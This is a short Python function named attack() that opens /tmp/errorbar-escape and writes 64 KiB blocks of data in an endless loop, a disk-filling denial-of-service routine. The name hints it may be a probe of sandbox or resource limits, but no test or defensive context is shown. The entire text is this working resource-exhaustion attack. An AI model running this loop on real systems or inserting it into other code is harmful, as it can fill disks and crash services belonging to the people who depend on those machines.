def attack():
    with open("/tmp/errorbar-escape", "wb", buffering=0) as file:
        while True:
            file.write(b"x" * 65_536)
